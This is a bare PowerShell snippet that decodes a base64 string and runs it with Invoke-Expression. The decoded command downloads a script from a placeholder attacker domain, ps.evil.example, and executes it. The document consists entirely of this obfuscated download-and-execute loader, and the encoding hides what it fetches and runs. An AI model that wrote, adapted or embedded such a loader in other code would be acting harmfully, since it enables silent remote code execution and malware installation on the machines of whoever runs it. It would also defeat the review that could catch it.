$b = 'aXdyIGh0dHBzOi8vcHMuZXZpbC5leGFtcGxlL20ucHMxIHwgaWV4'
$s = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b))
Invoke-Expression $s
